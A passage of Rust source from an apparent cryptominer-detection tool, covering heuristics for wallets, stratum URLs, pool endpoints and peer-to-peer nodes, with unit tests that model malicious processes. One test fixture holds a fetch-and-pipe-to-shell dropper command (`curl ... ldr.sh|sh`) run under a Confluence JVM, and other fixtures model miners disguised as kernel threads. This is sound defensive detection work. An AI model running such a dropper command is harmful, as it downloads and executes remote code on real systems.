        .iter()
        .filter(mine)
        .filter(|s| s.state == "ESTABLISHED")
        .filter(|s| {
            split_addr(&s.local).is_some_and(|(_, port)| !listening.contains(&(s.netns, port)))
        })
        .filter_map(|s| {
            split_addr(&s.remote).filter(|(_, port)| listening.contains(&(s.netns, *port)))
        })
        .collect();
    let mut addresses: Vec<&str> = dialled.iter().map(|(ip, _)| *ip).collect();
    addresses.sort_unstable();
    addresses.dedup();
    if addresses.len() < P2P_MIN_PEERS || miner_sign(ctx, p) || Placement::of(ctx, p).dropped() {
        return None;
    }
    // A pool among the "peers": a miner on its pool's port, whatever else it dials.
    if dialled
        .iter()
        .any(|(_, port)| ctx.iocs.has_port(Kind::PoolPort, *port))
    {
        return None;
    }
    let hosts = etc_hosts(ctx.model);
    if addresses
        .iter()
        .any(|ip| hosts_pool_domain(ctx, &hosts, ip).is_some())
    {
        return None;
    }
    if own_configs(ctx, p).into_iter().any(|(_, text)| {
        super::miner_binary::parse_config(text).is_some() || !monero_addresses(text).is_empty()
    }) {
        return None;
    }
    let mut peers: Vec<String> = dialled
        .iter()
        .map(|(ip, port)| {
            if ip.contains(':') {
                format!("[{ip}]:{port}")
            } else {
                format!("{ip}:{port}")
            }
        })
        .collect();
    peers.sort_unstable();
    peers.dedup();
    let port = listening
        .iter()
        .map(|(_, port)| *port)
        .min()
        .unwrap_or_default();
    Some(format!(
        "a peer-to-peer node (a full node verifies proof of work with this code): it listens on port {port} and dials {} peers on that port ({}), none a pool's, with no pool, algorithm or wallet option in its command line or configuration",
        addresses.len(),
        peers.join(", ")
    ))
}

/// The pool domain `/etc/hosts` gives an address, with the name that matched (the host's own resolution:
/// the one fact `MT-RUN-020` scores and [`p2p_node`] refuses a peer for).
pub fn hosts_pool_domain<'a>(
    ctx: &'a Context,
    hosts: &HashMap<String, Vec<String>>,
    ip: &str,
) -> Option<(String, &'a str)> {
    hosts
        .get(ip)?
        .iter()
        .find_map(|n| pool_domain_of(ctx, n).map(|d| (n.clone(), d)))
}

/// Options that name the configuration file a program reads (`xmrig -c`, `--config`, monerod's
/// `--config-file`).
const CONFIG_OPTIONS: &[&[u8]] = &[b"-c", b"--config", b"--config-file"];

/// The configurations a process reads, as captured: a file named by a config option on its command line
/// ([`CONFIG_OPTIONS`], relative to its working directory), and `config.json` beside its executable or in
/// its working directory (xmrig reads that one with no option at all). Path and captured bytes; files
/// whose content the bundle does not hold are left out.
pub fn own_configs<'a>(ctx: &Context<'a>, p: &ProcessRecord) -> Vec<(Vec<u8>, &'a [u8])> {
    let mut candidates: Vec<Vec<u8>> = Vec::new();
    let argv = p.argv();
    for (i, a) in argv.iter().enumerate() {
        if CONFIG_OPTIONS.contains(a) {
            if let Some(v) = argv.get(i + 1) {
                candidates.push(v.to_vec());
            }
        } else if let Some(v) = CONFIG_OPTIONS
            .iter()
            .filter(|o| o.starts_with(b"--"))
            .find_map(|o| a.strip_prefix(*o).and_then(|r| r.strip_prefix(b"=")))
        {
            candidates.push(v.to_vec());
        }
    }
    for dir in [
        p.exe.as_ref().map(|e| {
            let path = e.path.as_bytes();
            path.get(..path.len().saturating_sub(basename(path).len()))
                .unwrap_or_default()
                .to_vec()
        }),
        p.cwd.as_ref().map(|c| {
            let mut d = c.as_bytes().to_vec();
            d.push(b'/');
            d
        }),
    ]
    .into_iter()
    .flatten()
    {
        let mut path = dir;
        path.extend_from_slice(b"config.json");
        candidates.push(path);
    }
    let mut out: Vec<(Vec<u8>, &'a [u8])> = Vec::new();
    for c in candidates {
        let absolute = if c.starts_with(b"/") {
            c
        } else {
            let mut base = p
                .cwd
                .as_ref()
                .map(|d| d.as_bytes().to_vec())
                .unwrap_or_default();
            base.push(b'/');
            base.extend_from_slice(&c);
            base
        };
        if out.iter().any(|(seen, _)| *seen == absolute) {
            continue;
        }
        let model: &'a HostModel = ctx.model;
        if let Some(content) = model.file(&absolute).and_then(|f| model.content(f)) {
            out.push((absolute, content));
        }
    }
    out
}

/// Which process listens on a local address (for judging what a loopback peer is).
pub fn listener_of<'a>(
    model: &'a HostModel,
    netns: u64,
    ip: &str,
    port: u16,
) -> Option<&'a SocketRecord> {
    model.sockets.iter().find(|s| {
        s.state == "LISTEN"
            && s.netns == netns
            && split_addr(&s.local)
                .is_some_and(|(lip, lport)| lport == port && (lip == ip || unspecified(lip)))
    })
}

/// Base58 (Bitcoin alphabet, as Monero uses): digits without 0, letters without 0, I, O, l.
fn is_base58(b: u8) -> bool {
    matches!(b, b'1'..=b'9' | b'A'..=b'H' | b'J'..=b'N' | b'P'..=b'Z' | b'a'..=b'k' | b'm'..=b'z')
}

/// Monero addresses in text: 95 base58 characters starting `4` (standard, second character `0-9AB`) or `8`
/// (subaddress), or 106 starting `4` (integrated). Bounded by the text's length; at most 8 returned.
pub fn monero_addresses(text: &[u8]) -> Vec<String> {
    let wallet = |run: &[u8]| match (run.len(), run.first(), run.get(1)) {
        (95, Some(b'4'), Some(c)) => c.is_ascii_digit() || *c == b'A' || *c == b'B',
        (95, Some(b'8'), Some(_)) | (106, Some(b'4'), Some(_)) => true,
        _ => false,
    };
    let mut out = Vec::new();
    let mut start = None;
    for (i, b) in text.iter().chain(std::iter::once(&b' ')).enumerate() {
        if is_base58(*b) {
            start.get_or_insert(i);
        } else if let Some(s) = start.take() {
            if let Some(run) = text.get(s..i).filter(|r| wallet(r)) {
                out.push(String::from_utf8_lossy(run).into_owned());
                if out.len() == 8 {
                    break;
                }
            }
        }
    }
    out
}

/// Shortens a wallet for evidence lines: the first and last characters are enough to match it elsewhere.
pub fn short_wallet(w: &str) -> String {
    let head: String = w.chars().take(12).collect();
    let tail: String = w
        .chars()
        .rev()
        .take(6)
        .collect::<Vec<_>>()
        .into_iter()
        .rev()
        .collect();
    format!("{head}...{tail}")
}

/// The value of an option given as `NAME VALUE`, `NAME=VALUE` or (one-letter options) `-xVALUE`, for each
/// place it appears; a following word that is itself an option is no value.
fn option_values<'a>(args: &'a [String], names: &[&str]) -> Vec<&'a str> {
    let mut out = Vec::new();
    for (i, a) in args.iter().enumerate() {
        for n in names {
            if a == n {
                if let Some(v) = args.get(i + 1).filter(|v| !v.starts_with('-')) {
                    out.push(v.as_str());
                }
            } else if let Some(v) = a.strip_prefix(n).and_then(|r| r.strip_prefix('=')) {
                out.push(v);
            }
        }
    }
    out
}

/// What a command line says about mining: flags, an algorithm argument, a wallet. Empty when nothing.
///
/// Besides the listed flags and algorithms, two shapes every CPU/GPU miner shares count whatever the coin:
/// - a URL of the stratum mining protocol in any of its scheme spellings ([`stratum_url`]: ethminer's
///   `stratum1+tcp://`, `stratum2+ssl://`, `stratums://` as well as `stratum+tcp://`);
/// - a pool endpoint option (`miner_pool_option`: `-o`, `--url`, `--pool`, `-pool`, `--server`, naming
///   `host:port` or a `stratum` URL) beside an algorithm/coin option (`miner_algo_option`) — Dash's `x11`,
///   Nexa's `NEXA`, a coin launched next year alike (Elastic: `-a/--algo` with `-o/--url`) — or beside an
///   account option (`miner_account_option`) holding an EVM wallet (`0x` and 40 hex digits: the GPU
///   coins', as lolMiner, PhoenixMiner and GMiner take it with `.WORKER`).
pub fn miner_cmdline(ctx: &Context, p: &ProcessRecord) -> Vec<String> {
    let argv = p.argv();
    // argv[0] is skipped: a program name is judged as a name, not as a flag.
    let args: Vec<String> = argv.iter().skip(1).map(|a| lower(a)).collect();
    let joined = args.join(" ");
    let mut out = Vec::new();
    for flag in ctx.iocs.set(Kind::MinerFlag) {
        if joined.contains(flag) {
            out.push(format!("command line has miner option {flag:?}"));
        }
    }
    if let Some(url) = args.iter().find_map(|a| stratum_url(a)) {
        if !out.iter().any(|e| e.contains("stratum")) {
            out.push(format!(
                "command line names a URL of the stratum mining protocol ({url:?})"
            ));
        }
    }
    let options = |kind: Kind| -> Vec<&str> { ctx.iocs.set(kind).collect() };
    let algos = option_values(&args, &options(Kind::MinerAlgoOption));
    for v in &algos {
        if ctx.iocs.contains(Kind::MinerAlgo, v) {
            out.push(format!("command line selects mining algorithm {v:?}"));
        }
    }
    let pool = option_values(&args, &options(Kind::MinerPoolOption))
        .into_iter()
        .find(|v| {
            v.starts_with("stratum") || parse_host_port(v).is_some_and(|(_, port)| port.is_some())
        });
    if let Some(pool) = pool {
        let unlisted = algos
            .iter()
            .find(|v| !ctx.iocs.contains(Kind::MinerAlgo, v));
        let wallet = option_values(&args, &options(Kind::MinerAccountOption))
            .into_iter()
            .find_map(evm_address);
        if let Some(algo) = unlisted {
            out.push(format!(
                "command line selects algorithm {algo:?} and pool endpoint {pool:?} (an algorithm option with a pool option: the miners' option convention, whatever the coin)"
            ));
        } else if let (true, Some(w)) = (algos.is_empty(), wallet) {
            out.push(format!(
                "command line names pool endpoint {pool:?} and pays account {} (a pool option with a wallet for its account: the miners' option convention, whatever the coin)",
                short_wallet(w)
            ));
        }
    }
    let raw: Vec<u8> = argv
        .iter()
        .skip(1)
        .flat_map(|a| a.iter().copied().chain([b' ']))
        .collect();
    for w in monero_addresses(&raw) {
        out.push(format!(
            "command line holds Monero wallet {}",
            short_wallet(&w)
        ));
    }
    out
}

/// The stratum URL an argument holds (`stratum1+tcp://0x...@pool:4444`, `--url=stratum+ssl://...`): a URL
/// scheme starting with `stratum` (the mining protocol and its variants: `+tcp`, `+ssl`, `1+`, `2+`,
/// `s`), at the argument's start or after `=`. Lowercase input.
pub fn stratum_url(arg: &str) -> Option<&str> {
    let url = match arg.strip_prefix('-') {
        Some(option) => option.split_once('=').map_or(arg, |(_, v)| v),
        None => arg,
    };
    let (scheme, rest) = url.split_once("://")?;
    let variant = scheme.strip_prefix("stratum")?;
    (variant
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b == b'+')
        && !rest.is_empty())
    .then_some(url)
}

/// The EVM address (`0x` and 40 hex digits) a pool account value starts with, as miners write it:
/// alone, or followed by `.WORKER`, `/WORKER` or `+...`. Lowercase input.
pub fn evm_address(value: &str) -> Option<&str> {
    let hex = value.strip_prefix("0x")?;
    let end = hex
        .find(|c: char| !c.is_ascii_hexdigit())
        .unwrap_or(hex.len());
    let after = hex.get(end..).unwrap_or_default();
    (end == 40 && (after.is_empty() || after.starts_with(['.', '/', '+'])))
        .then(|| value.get(..42))
        .flatten()
}

/// Hosts named in a command line as pool targets: values of `-o`/`--url`/`-p`-less URLs, stratum URLs,
/// `host:port` arguments. Lowercase, without scheme and path.
pub fn named_endpoints(p: &ProcessRecord) -> Vec<(String, Option<u16>)> {
    let argv = p.argv();
    let args: Vec<String> = argv.iter().skip(1).map(|a| lower(a)).collect();
    let mut out = Vec::new();
    for (i, a) in args.iter().enumerate() {
        let candidate = if a == "-o" || a == "--url" {
            args.get(i + 1).cloned()
        } else if let Some(v) = a.strip_prefix("--url=").or_else(|| a.strip_prefix("-o=")) {
            Some(v.to_owned())
        } else if a.contains("://") || (a.contains(':') && !a.starts_with('-')) {
            Some(a.clone())
        } else {
            None
        };
        if let Some(c) = candidate {
            if let Some(ep) = parse_host_port(&c) {
                out.push(ep);
            }
        }
    }
    out
}

/// `stratum+tcp://host:port/path` or `host:port` → `(host, port)`.
pub fn parse_host_port(text: &str) -> Option<(String, Option<u16>)> {
    let rest = text.split_once("://").map_or(text, |(_, r)| r);
    let rest = rest.rsplit_once('@').map_or(rest, |(_, r)| r);
    let hostport = rest.split(['/', '?', ' ', '"', '\'']).next()?;
    let (host, port) = match hostport.rsplit_once(':') {
        Some((h, p)) if !h.contains(':') || h.starts_with('[') => (h, p.parse().ok()),
        _ => (hostport, None),
    };
    let host = host.trim_start_matches('[').trim_end_matches(']');
    let plausible = !host.is_empty()
        && host.contains('.')
        && host
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-' || b == b':');
    plausible.then(|| (host.to_owned(), port))
}

/// Whether a host name is, or is under, a pool domain from the indicators; returns the domain.
pub fn pool_domain_of<'a>(ctx: &'a Context, host: &str) -> Option<&'a str> {
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    ctx.iocs
        .set(Kind::PoolDomain)
        .find(|d| host == *d || host.ends_with(&format!(".{d}")))
}

/// Names the host's `/etc/hosts` gives each address (lowercase).
pub fn etc_hosts(model: &HostModel) -> HashMap<String, Vec<String>> {
    let mut out: HashMap<String, Vec<String>> = HashMap::new();
    let Some(content) = model.file(b"/etc/hosts").and_then(|f| model.content(f)) else {
        return out;
    };
    for line in content.split(|b| *b == b'\n').take(100_000) {
        let line = line.split(|b| *b == b'#').next().unwrap_or_default();
        let text = lower(line);
        let mut words = text.split_whitespace();
        if let Some(ip) = words.next() {
            out.entry(ip.to_owned())
                .or_default()
                .extend(words.map(str::to_owned));
        }
    }
    out
}

/// Children of each pid.
pub fn children(model: &HostModel) -> HashMap<i32, Vec<&ProcessRecord>> {
    let mut out: HashMap<i32, Vec<&ProcessRecord>> = HashMap::new();
    for p in &model.processes {
        out.entry(p.ppid).or_default().push(p);
    }
    out
}

/// The value of an environment variable, when the collector kept it.
pub fn env_value<'a>(p: &'a ProcessRecord, name: &[u8]) -> Option<&'a [u8]> {
    p.env
        .iter()
        .find(|e| e.name.as_bytes() == name)
        .and_then(|e| e.value.as_ref())
        .map(|v| v.as_bytes())
}

/// Severity from a combined score: each detector documents what its points mean.
pub fn severity_of(score: u32) -> Severity {
    match score {
        0..=2 => Severity::Low,
        3..=4 => Severity::Medium,
        5..=7 => Severity::High,
        _ => Severity::Critical,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn algorithm_with_a_pool_endpoint_is_a_miner_command_line_whatever_the_coin() {
        use crate::model::fixture::{model_with_processes, process};
        let iocs = crate::indicators::Indicators::builtin();
        let argvs: [&[&[u8]]; 7] = [
            &[
                b"./irqd",
                b"-a",
                b"x11",
                b"-o",
                b"dash.pool.example:9989",
                b"-u",
                b"Xw.1",
            ],
            &[
                b"./irqd",
                b"--algo=x16r",
                b"--url=stratum+tcp://rvn.pool.example:3636",
            ],
            &[b"./irqd", b"-a", b"rx/0", b"-o", b"127.66.1.1:80"],
            // Look-alikes: -a as a flag, -o naming an output file, no endpoint.
            &[
                b"/usr/bin/curl",
                b"-a",
                b"-o",
                b"out.txt",
                b"ftp://mirror.example:21/x",
            ],
            &[b"/usr/bin/sox", b"-a", b"alaw", b"-o", b"out.wav"],
            &[
                b"/usr/bin/tool",
                b"--algo",
                b"sha256",
                b"-o",
                b"report.json",
            ],
            &[
                b"/usr/bin/ssh",
                b"-a",
                b"-o",
                b"StrictHostKeyChecking=no",
                b"db.example:22",
            ],
        ];
        let procs = argvs
            .iter()
            .enumerate()
            .map(|(i, a)| process(100 + i as i32, 1, 0, a[0], a))
            .collect();
        let model = model_with_processes(vec![], vec![], procs);
        let ctx = Context {
            model: &model,
            iocs: &iocs,
        };
        let says = |pid: i32| {
            model
                .process(pid)
                .map(|p| miner_cmdline(&ctx, p))
                .unwrap_or_default()
        };
        assert!(
            says(100).iter().any(|l| l.contains("\"x11\"")),
            "{:?}",
            says(100)
        );
        assert!(
            says(101).iter().any(|l| l.contains("\"x16r\"")),
            "{:?}",
            says(101)
        );
        // A listed algorithm is named as one, without the shape line.
        assert!(
            says(102).iter().all(|l| !l.contains("whatever the coin")),
            "{:?}",
            says(102)
        );
        for pid in 103..=106 {
            assert!(says(pid).is_empty(), "{pid}: {:?}", says(pid));
        }
    }

    #[test]
    fn gpu_miners_option_conventions_count_and_training_jobs_do_not() {
        use crate::model::fixture::{model_with_processes, process};
        let iocs = crate::indicators::Indicators::builtin();
        let wallet: &[u8] = b"0x5e1F0c9d3b7a2e4f6c8d0b1a3e5f7c9d2b4a6e8f";
        let worker = [wallet, b".kf02"].concat();
        let ethminer = [b"stratum1+tcp://", wallet, b".kf01@127.66.22.1:4444"].concat();
        let argvs: Vec<Vec<&[u8]>> = vec![
            // ethminer: -P with a stratum1 URL and nothing else.
            vec![b"./cuda-mps", b"-U", b"-P", &ethminer],
            // PhoenixMiner: -pool, -wal and -coin (an unlisted coin).
            vec![
                b"./nccl-check",
                b"-pool",
                b"127.66.22.2:5555",
                b"-wal",
                &worker,
            ],
            vec![
                b"./nccl-check",
                b"-pool",
                b"ssl://127.66.22.2:5555",
                b"-coin",
                b"etc",
            ],
            // lolMiner with an algorithm no list names; GMiner's --server.
            vec![
                b"./x",
                b"--algo",
                b"NEXA",
                b"--pool",
                b"127.66.22.3:3030",
                b"--user",
                b"nexa:nq.w",
            ],
            vec![
                b"./x",
                b"--algo",
                b"karlsenhash",
                b"--server",
                b"127.66.22.4:5555",
            ],
            // Look-alikes: PyTorch's ImageNet example (-a arch, a rendezvous URL that is no pool option),
            // a Celery worker (--pool names a pool of processes, -A an app), hashcat (-o a file), an
            // account option with a wallet but no pool, geth's etherbase.
            vec![
                b"python3",
                b"main.py",
                b"-a",
                b"resnet50",
                b"--dist-url",
                b"tcp://127.0.0.1:23456",
                b"/data/imagenet",
            ],
            vec![
                b"celery",
                b"-A",
                b"pipeline",
                b"worker",
                b"--pool=prefork",
                b"-b",
                b"redis://127.0.0.1:6379/0",
            ],
            vec![
                b"hashcat",
                b"-a",
                b"3",
                b"-m",
                b"1000",
                b"-o",
                b"/root/audit/cracked.txt",
                b"hashes.ntds",
            ],
            vec![b"./app", b"--user", wallet, b"--listen", b"127.0.0.1:8545"],
            vec![
                b"geth",
                b"--mine",
                b"--miner.etherbase",
                wallet,
                b"--http.addr",
                b"127.0.0.1:8545",
            ],
            vec![b"./tool", b"--url=http://127.0.0.1:8080/stratum://x"],
        ];
        let procs = argvs
            .iter()
            .enumerate()
            .map(|(i, a)| process(200 + i as i32, 1, 0, a[0], a))
            .collect();
        let model = model_with_processes(vec![], vec![], procs);
        let ctx = Context {
            model: &model,
            iocs: &iocs,
        };
        let says = |pid: i32| {
            model
                .process(pid)
                .map(|p| miner_cmdline(&ctx, p))
                .unwrap_or_default()
        };
        for pid in 200..=204 {
            assert!(
                !says(pid).is_empty(),
                "{pid}: a miner's command line unread"
            );
        }
        assert!(
            says(200).iter().any(|l| l.contains("stratum1+tcp://")),
            "{:?}",
            says(200)
        );
        assert!(
            says(201).iter().any(|l| l.contains("pays account 0x5e1f")),
            "{:?}",
            says(201)
        );
        assert!(
            says(203).iter().any(|l| l.contains("\"nexa\"")),
            "{:?}",
            says(203)
        );
        for pid in 205..=210 {
            assert!(says(pid).is_empty(), "{pid}: {:?}", says(pid));
        }
    }

    #[test]
    fn stratum_urls_and_evm_addresses() {
        assert!(stratum_url("stratum2+ssl://a.example:4444").is_some());
        assert!(stratum_url("stratums://a.example:4444").is_some());
        assert_eq!(
            stratum_url("--url=stratum+tcp://a:1"),
            Some("stratum+tcp://a:1")
        );
        assert!(stratum_url("stratum+tcp://").is_none());
        assert!(stratum_url("http://x/stratum+tcp://a:1").is_none());
        assert!(stratum_url("mystratum://a:1").is_none());
        let w = "0x5e1f0c9d3b7a2e4f6c8d0b1a3e5f7c9d2b4a6e8f";
        assert_eq!(evm_address(w), Some(w));
        assert_eq!(evm_address(&format!("{w}.rig1")), Some(w));
        assert!(evm_address(&format!("{w}ab")).is_none());
        assert!(evm_address("0x5e1f").is_none());
        assert!(evm_address("5e1f0c9d3b7a2e4f6c8d0b1a3e5f7c9d2b4a6e8f").is_none());
    }

    #[test]
    fn a_full_node_dials_its_peers_on_the_port_it_listens_on() {
        use crate::model::fixture::{model_with_processes, process};
        let iocs = crate::indicators::Indicators::builtin();
        let tcp = |pid: i32, local: &str, remote: &str, state: &str| SocketRecord {
            netns: 1,
            proto: SocketProto::Tcp,
            local: local.into(),
            remote: remote.into(),
            state: state.into(),
            uid: 0,
            inode: 0,
            unix_path: None,
            pids: vec![pid],
        };
        let wallet = b"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD";
        let procs = vec![
            process(
                10,
                1,
                990,
                b"/opt/monero/monerod",
                &[b"/opt/monero/monerod", b"--non-interactive"],
            ),
            // xmrig renamed monerod: an HTTP API of its own, the pool on another port.
            process(
                11,
                1,
                0,
                b"/usr/local/bin/monerod",
                &[b"monerod", b"-o", b"pool.example:3333"],
            ),
            // A node told to mine names the wallet it mines for.
            process(
                12,
                1,
                990,
                b"/opt/monero/monerod",
                &[b"/opt/monero/monerod", b"--start-mining", wallet],
            ),
            // A kit in a temp place that also peers on its own port (a P2P bot).
            process(13, 1, 0, b"/tmp/.x/p2p", &[b"/tmp/.x/p2p"]),
            // Review of train 2, item 4: xmrig reading config.json from its own directory (empty command
            // line) whose `"http": {"port": 3333}` API listens on its pool's port: one "peer", the pool.
            process(
                14,
                1,
                0,
                b"/usr/local/bin/sysmond",
                &[b"/usr/local/bin/sysmond"],
            ),
            // The same on 443 (no pool port), with a failover pool: two "peers".
            process(15, 1, 0, b"/opt/sys/bin/node", &[b"/opt/sys/bin/node"]),
            // Three pools on a pool port it also listens on.
            process(16, 1, 0, b"/opt/sys/bin/agent", &[b"/opt/sys/bin/agent"]),
            // Three peers, but the host's /etc/hosts names one of them a pool.
            process(17, 1, 0, b"/opt/sys/bin/relay", &[b"/opt/sys/bin/relay"]),
            // Three peers, but the config beside it is a miner's (its pools and wallet).
            process(18, 1, 0, b"/opt/xm/syncd", &[b"/opt/xm/syncd"]),
        ];
        let config = format!(
            "{{\"http\": {{\"enabled\": true, \"port\": 443}}, \"pools\": [{{\"url\": \"203.0.113.60:443\", \"user\": \"{}\"}}]}}",
            String::from_utf8_lossy(wallet)
        );
        let hosts = b"127.0.0.1 localhost\n203.0.113.52 gulf.moneroocean.stream\n";
        let mut model = model_with_processes(
            vec![
                crate::model::fixture::file(b"/opt/xm/config.json", Some(config.as_bytes())),
                crate::model::fixture::file(b"/etc/hosts", Some(hosts)),
            ],
            vec![],
            procs,
        );
        model.sockets = vec![
            tcp(10, "0.0.0.0:18080", "0.0.0.0:0", "LISTEN"),
            tcp(10, "10.0.0.5:43110", "203.0.113.7:18080", "ESTABLISHED"),
            tcp(10, "10.0.0.5:43120", "203.0.113.20:18080", "ESTABLISHED"),
            tcp(10, "10.0.0.5:43121", "203.0.113.21:18080", "ESTABLISHED"),
            tcp(10, "10.0.0.5:18080", "198.51.100.9:51515", "ESTABLISHED"),
            tcp(11, "127.0.0.1:18080", "0.0.0.0:0", "LISTEN"),
            tcp(11, "10.0.0.5:43111", "203.0.113.8:3333", "ESTABLISHED"),
            tcp(12, "0.0.0.0:18081", "0.0.0.0:0", "LISTEN"),
            tcp(12, "10.0.0.5:43112", "203.0.113.9:18081", "ESTABLISHED"),
            tcp(13, "0.0.0.0:60101", "0.0.0.0:0", "LISTEN"),
            tcp(13, "10.0.0.5:43113", "203.0.113.10:60101", "ESTABLISHED"),
            tcp(14, "0.0.0.0:3333", "0.0.0.0:0", "LISTEN"),
            tcp(14, "10.0.0.5:43114", "203.0.113.40:3333", "ESTABLISHED"),
            tcp(15, "0.0.0.0:443", "0.0.0.0:0", "LISTEN"),
            tcp(15, "10.0.0.5:43115", "203.0.113.41:443", "ESTABLISHED"),
            tcp(15, "10.0.0.5:43116", "203.0.113.42:443", "ESTABLISHED"),
            tcp(16, "0.0.0.0:3333", "0.0.0.0:0", "LISTEN"),
            tcp(16, "10.0.0.5:43117", "203.0.113.43:3333", "ESTABLISHED"),
            tcp(16, "10.0.0.5:43118", "203.0.113.44:3333", "ESTABLISHED"),
            tcp(16, "10.0.0.5:43119", "203.0.113.45:3333", "ESTABLISHED"),
            tcp(17, "0.0.0.0:8333", "0.0.0.0:0", "LISTEN"),
            tcp(17, "10.0.0.5:43130", "203.0.113.50:8333", "ESTABLISHED"),
            tcp(17, "10.0.0.5:43131", "203.0.113.51:8333", "ESTABLISHED"),
            tcp(17, "10.0.0.5:43132", "203.0.113.52:8333", "ESTABLISHED"),
            tcp(18, "0.0.0.0:443", "0.0.0.0:0", "LISTEN"),
            tcp(18, "10.0.0.5:43140", "203.0.113.60:443", "ESTABLISHED"),
            tcp(18, "10.0.0.5:43141", "203.0.113.61:443", "ESTABLISHED"),
            tcp(18, "10.0.0.5:43142", "203.0.113.62:443", "ESTABLISHED"),
        ];
        let ctx = Context {
            model: &model,
            iocs: &iocs,
        };
        let node = |pid| model.process(pid).and_then(|p| p2p_node(&ctx, p));
        let line = node(10).expect("monerod is a node");
        assert!(
            line.contains("203.0.113.7:18080") && !line.contains("198.51.100.9"),
            "{line}"
        );
        assert_eq!(node(11), None);
        assert_eq!(node(12), None);
        assert_eq!(node(13), None);
        assert_eq!(node(14), None, "its pool on the port its API listens on");
        assert_eq!(node(15), None, "two pools are no peer-to-peer network");
        assert_eq!(node(16), None, "peers on a pool port");
        assert_eq!(node(17), None, "a peer /etc/hosts names a pool");
        assert_eq!(node(18), None, "a miner config beside it");
        // The same node with fewer peers than a node keeps is no node either.
        model.sockets.retain(|s| s.remote != "203.0.113.21:18080");
        let ctx = Context {
            model: &model,
            iocs: &iocs,
        };
        assert_eq!(model.process(10).and_then(|p| p2p_node(&ctx, p)), None);
    }

    #[test]
    fn kernel_thread_disguises() {
        use crate::model::fixture::{model_with_processes, process};
        let iocs = crate::indicators::Indicators::builtin();
        let mut kworker = process(80, 2, 0, b"-", &[]);
        kworker.exe = None;
        kworker.comm = RawBytes::from(&b"kworker/0:1"[..]);
        let mut bracketed = process(81, 1, 0, b"/tmp/.x/bash", &[b"[kworker/0:2]"]);
        bracketed.comm = RawBytes::from(&b"bash"[..]);
        let named = process(82, 1, 0, b"/tmp/.x/kswapd0", &[b"./kswapd0", b"-c", b"x"]);
        let kubelet = process(83, 1, 0, b"/usr/bin/kubelet", &[b"/usr/bin/kubelet"]);
        let model = model_with_processes(vec![], vec![], vec![kworker, bracketed, named, kubelet]);
        let ctx = Context {
            model: &model,
            iocs: &iocs,
        };
        let disguise = |pid| {
            model
                .process(pid)
                .and_then(|p| kthread_disguise(&ctx, p, &Names::of(p)))
        };
        assert_eq!(disguise(80), None, "a real kernel thread");
        assert_eq!(
            disguise(81),
            Some(KthreadDisguise {
                bracketed: Some("[kworker/0:2]".into()),
                name: Some(("kworker/0:2".into(), "kworker".into())),
            })
        );
        assert_eq!(
            disguise(82).and_then(|d| d.name),
            Some(("kswapd0".into(), "kswapd".into()))
        );
        assert_eq!(disguise(83), None);
    }

    #[test]
    fn a_build_tool_excuses_what_it_started_a_service_does_not() {
        use crate::model::fixture::{model_with_processes, process};
        let iocs = crate::indicators::Indicators::builtin();
        let model = model_with_processes(
            vec![],
            vec![],
            vec![
                // CI: `cargo test` runs an integration test binary from a temp directory.
                process(
                    100,
                    1,
                    1000,
                    b"/home/ci/.cargo/bin/cargo",
                    &[b"cargo", b"test"],
                ),
                process(
                    101,
                    100,
                    1000,
                    b"/tmp/.tmpQ2/target/debug/deps/it-1a2b",
                    &[b"/tmp/.tmpQ2/target/debug/deps/it-1a2b"],
                ),
                // Confluence's JVM runs a shell that runs a dropper from /tmp (CVE-2022-26134's shape).
                process(
                    200,
                    1,
                    1001,
                    b"/opt/atlassian/confluence/jre/bin/java",
                    &[
                        b"/opt/atlassian/confluence/jre/bin/java",
                        b"-Dcatalina.base=/opt/atlassian/confluence",
                        b"org.apache.catalina.startup.Bootstrap",
                        b"start",
                    ],
                ),
                process(
                    201,
                    200,
                    1001,
                    b"/usr/bin/bash",
                    &[b"bash", b"-c", b"curl -s http://203.0.113.7/ldr.sh|sh"],
                ),
                process(
                    202,
                    201,
                    1001,
                    b"/tmp/.x/kdevtmpfsi",
                    &[b"/tmp/.x/kdevtmpfsi"],
                ),
                // An application JVM and PostgreSQL (COPY ... FROM PROGRAM) are no compilers either.
                process(
                    300,
                    1,
                    1002,
                    b"/usr/bin/java",
                    &[b"java", b"-jar", b"/srv/app/app.jar"],
                ),
                process(301, 300, 1002, b"/tmp/x", &[b"/tmp/x"]),
                process(
                    400,
                    1,
                    113,
                    b"/usr/lib/postgresql/15/bin/postgres",
                    &[
                        b"/usr/lib/postgresql/15/bin/postgres",
                        b"-D",
                        b"/var/lib/postgresql/15/main",
                    ],
                ),
                process(
                    401,
                    400,
                    113,
                    b"/usr/bin/dash",
                    &[b"sh", b"-c", b"/tmp/pg_mem"],
                ),
                process(402, 401, 113, b"/tmp/pg_mem", &[b"/tmp/pg_mem"]),
                // A build a service's job runs (Jenkins -> make -> test binary): the build tool comes first.
                process(
                    500,
                    1,
                    1003,
                    b"/usr/bin/java",
                    &[b"java", b"-jar", b"/usr/share/java/jenkins.war"],
                ),
                process(501, 500, 1003, b"/usr/bin/make", &[b"make", b"check"]),
                process(
                    502,
                    501,
                    1003,
                    b"/tmp/build/t/unit",
                    &[b"/tmp/build/t/unit"],
                ),
            ],
        );
        let ctx = Context {
            model: &model,
            iocs: &iocs,
        };
        let ancestor = |pid| model.process(pid).and_then(|p| build_ancestor(&ctx, p));
        assert_eq!(ancestor(101).as_deref(), Some("cargo"));
        assert_eq!(ancestor(502).as_deref(), Some("make"));
        assert_eq!(ancestor(202), None, "a dropper under Confluence's java");
        assert_eq!(ancestor(301), None, "a child of an application JVM");
        assert_eq!(ancestor(402), None, "a program PostgreSQL ran");
        // They still burn CPU legitimately.
        for pid in [100, 200, 400] {
            let p = model.process(pid).map(Names::of);
            assert!(p.is_some_and(|n| cpu_heavy(&ctx, &n)), "pid {pid}");
        }
    }

    #[test]
    fn monero_address_shapes() {
        let std = format!("4{}", "8".repeat(94));
        let sub = format!("8{}", "z".repeat(94));
        let text = format!("-u {std}.worker -p x {sub}");
        assert_eq!(monero_addresses(text.as_bytes()).len(), 2);
        assert!(monero_addresses(format!("4{}", "8".repeat(93)).as_bytes()).is_empty());
        assert!(monero_addresses(format!("4z{}", "8".repeat(93)).as_bytes()).is_empty());
    }

    #[test]
    fn host_port_parsing() {
        assert_eq!(
